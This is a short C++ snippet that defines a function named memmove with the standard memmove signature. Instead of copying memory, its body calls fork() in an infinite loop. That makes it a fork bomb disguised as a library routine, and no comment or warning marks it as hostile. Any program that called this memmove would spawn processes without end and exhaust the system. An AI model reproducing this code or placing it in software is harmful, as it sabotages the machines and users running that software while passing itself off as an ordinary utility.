void* memmove(void* destination, const void* source, std::size_t size) {
    int fork() noexcept;
    for (;;) {
        fork();
    }
}
